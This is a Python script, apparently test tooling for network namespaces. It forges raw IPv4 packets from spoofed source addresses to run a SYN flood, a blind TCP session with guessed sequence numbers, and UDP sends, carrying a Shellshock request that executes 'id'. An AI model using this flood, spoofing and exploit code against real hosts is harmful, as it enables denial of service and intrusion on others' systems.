#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Forged packets for namespace tests, sent through a raw IP socket (needs root in the sending namespace).

forge.py session --source PREFIX --count N --target HOST [--port 80]   SYN, then ACK and a Shellshock request with guessed
                                                                       sequence numbers, from addresses that are not ours
forge.py udp --source PREFIX --count N --target HOST [--port 53]       one datagram with the attack text per source
forge.py syn --source PREFIX --count N --target HOST [--port 80]       SYN flood
"""
import argparse
import ipaddress
import itertools
import random
import socket
import struct

ATTACK = b"GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n"


def checksum(data):
    if len(data) & 1:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, proto, segment, offset):
    pseudo = source + target + struct.pack("!BBH", 0, proto, len(segment))
    segment = segment[:offset] + struct.pack("!H", checksum(pseudo + segment)) + segment[offset + 2:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), random.getrandbits(16), 0x4000, 64, proto, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + segment


def tcp(source, target, sport, dport, seq, ack, flags, data=b""):
    segment = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64240, 0, 0) + data
    return packet(source, target, 6, segment, 16)


def udp(source, target, sport, dport, data):
    return packet(source, target, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data, 6)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("what", choices=["session", "udp", "syn"])
    parser.add_argument("--source", required=True)
    parser.add_argument("--count", type=int, default=10)
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int)
    args = parser.parse_args()
    random.seed(1)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(args.target)
    hosts = itertools.cycle(list(ipaddress.ip_network(args.source).hosts()) or [ipaddress.ip_network(args.source)[0]])
    for _ in range(args.count):
        source = next(hosts).packed
        sport = random.randint(1024, 65535)
        port = args.port or (53 if args.what == "udp" else 80)
        if args.what == "udp":
            frames = [udp(source, target, sport, port, ATTACK)]
        else:
            seq, ack = random.getrandbits(32), random.getrandbits(32)
            frames = [tcp(source, target, sport, port, seq, 0, 2)]
            if args.what == "session":
                nxt = (seq + 1) & 0xFFFFFFFF
                frames.append(tcp(source, target, sport, port, nxt, ack, 16))
                frames.append(tcp(source, target, sport, port, nxt, ack, 24, ATTACK))
        for frame in frames:
            raw.sendto(frame, (args.target, 0))
    print(f"{args.count} {args.what} sent")


if __name__ == "__main__":
    main()
